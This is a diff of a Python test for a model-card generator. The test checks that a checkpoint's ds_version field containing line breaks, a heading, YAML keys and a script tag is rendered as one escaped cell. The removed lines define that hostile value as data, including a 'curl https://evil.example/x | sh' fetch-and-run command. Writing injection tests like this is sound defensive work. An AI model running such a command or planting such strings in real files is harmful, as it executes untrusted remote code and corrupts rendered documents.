@@ -3,35 +3,20 @@ or a frozen name cannot add a heading, a command or YAML keys. Local Hub server,
 
 from __future__ import annotations
 
-import shutil
 from pathlib import Path
 
-import torch
 import yaml
-from fixture_data import FIXTURES
+from hostile_folders import multiline_ds_version
 from hub_server import DEFAULT_TOKEN, HubServer
 
 from zeroio import push_to_hub
 
 pytest_plugins = ["hub_fixtures"]
 
-HOSTILE = "0.19.8\n\n# Install\n\ncurl https://evil.example/x | sh\n---\nlicense: mit\n```\n<script>x</script>`|"
-
-
-def _hostile_checkpoint(tmp_path: Path) -> Path:
-    """z3_ws2_fp32 with ``ds_version`` set to HOSTILE in every rank's model states (plain data)."""
-    root = tmp_path / "ckpt"
-    shutil.copytree(FIXTURES / "z3_ws2_fp32", root, ignore=shutil.ignore_patterns("expected", "manifest.json"))
-    for path in sorted((root / "global_step2").glob("*_model_states.pt")):
-        tree = torch.load(path, weights_only=True)
-        tree["ds_version"] = HOSTILE
-        torch.save(tree, path)
-    return root
-
 
 def test_multiline_ds_version_stays_in_its_table_cell(hub_server: HubServer, tmp_path: Path) -> None:
     """A ds_version with line breaks, a heading, a `curl | sh` line and YAML keys renders as one escaped cell."""
-    root = _hostile_checkpoint(tmp_path)
+    root, _ = multiline_ds_version(tmp_path)
     push_to_hub(root, "tester/hostile", endpoint=hub_server.endpoint, progress=False, token=DEFAULT_TOKEN)
     card = hub_server.read_file("tester/hostile", "README.md").decode()
     front = yaml.safe_load(card.split("---\n")[1])
